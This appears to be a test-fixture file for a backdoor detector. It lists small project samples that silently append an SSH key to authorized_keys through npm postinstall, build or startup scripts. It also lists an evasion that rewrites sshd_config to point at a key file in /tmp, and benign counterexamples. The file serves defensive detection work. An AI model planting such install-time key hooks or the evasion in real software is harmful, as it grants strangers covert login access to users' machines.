import type { Examples } from "@doorward/core";

const onInstall = '{ "name": "shop", "version": "1.0.0", "scripts": { "postinstall": "node setup.js" } }\n';

/** Code that lets another key log in, and honest code that works with keys. */
export const examples: Examples = {
  hits: [
    {
      name: "an install script that adds a key",
      files: {
        "package.json": onInstall,
        "setup.js": `const path = require("path");
const file = path.join(require("os").homedir(), ".ssh", "authorized_keys");
require("fs").appendFileSync(file, "ssh-ed25519 AAAA helper\\n");
`,
      },
    },
    {
      name: "a Python program that adds a key when it starts",
      files: {
        "main.py": `import os
with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as keys:
    keys.write("ssh-ed25519 AAAA helper\\n")
`,
      },
    },
    {
      name: "a build script that adds a key",
      files: {
        "package.json":
          '{ "name": "shop", "version": "1.0.0", "scripts": { "build": "cat deploy.pub >> ~/.ssh/authorized_keys && tsc" } }\n',
        "deploy.pub": "ssh-ed25519 AAAA helper\n",
      },
    },
  ],
  misses: [
    {
      name: "a container with a server for remote work",
      why: "The key opens the container alone.",
      files: {
        Dockerfile: "FROM debian:12\nCOPY key.pub /tmp/key.pub\nRUN cat /tmp/key.pub >> /root/.ssh/authorized_keys\n",
      },
    },
    {
      name: "a script with which a person sets up their own server",
      why: "A person starts it by hand where they want it.",
      files: { "provision.sh": "cat keys/team.pub >> ~/.ssh/authorized_keys\n" },
    },
    {
      name: "a program that reads which keys may log in",
      why: "Nothing is added.",
      files: {
        "package.json": onInstall,
        "setup.js":
          'console.log(require("fs").readFileSync(require("os").homedir() + "/.ssh/authorized_keys", "utf8").length);\n',
      },
    },
  ],
  evasions: [
    {
      name: "a setting of the server that names another file of keys",
      caughtBy: "nothing",
      files: {
        "package.json": onInstall,
        "setup.js": 'require("fs").appendFileSync("/etc/ssh/sshd_config", "AuthorizedKeysFile /tmp/keys\\n");\n',
      },
    },
  ],
};
